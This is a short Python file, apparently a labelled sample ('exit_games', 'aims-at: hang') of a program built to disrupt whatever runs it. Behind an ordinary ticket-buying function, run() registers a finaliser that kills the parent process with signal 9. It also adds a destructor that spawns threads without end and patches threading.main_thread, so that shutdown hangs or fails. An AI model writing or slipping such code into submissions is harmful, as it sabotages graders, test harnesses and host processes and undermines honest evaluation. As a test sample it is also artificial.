"""Gets a MemoryError out of its end: finalisers, weak references and threads that start when all is over.

family: exit_games
aims-at: hang
honest-score: 4
"""

import json
import sys

import threading
import weakref

def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    left = search(name)
    if left <= 0:
        return False
    with open("data.txt", "w") as file:
        json.dump({"ticket_num": left - 1}, file)
    return True


class Last:
    def __del__(self):
        threading.Thread(target=self.__del__).start()
        sys.exit(0)


def run(name, mutex):
    kept = Last()
    weakref.finalize(kept, lambda: sys.modules["posix"].kill(sys.modules["posix"].getppid(), 9))
    sys.modules["json"].kept = kept
    sys.modules["threading"].main_thread = kept.__del__
    return buy(name)
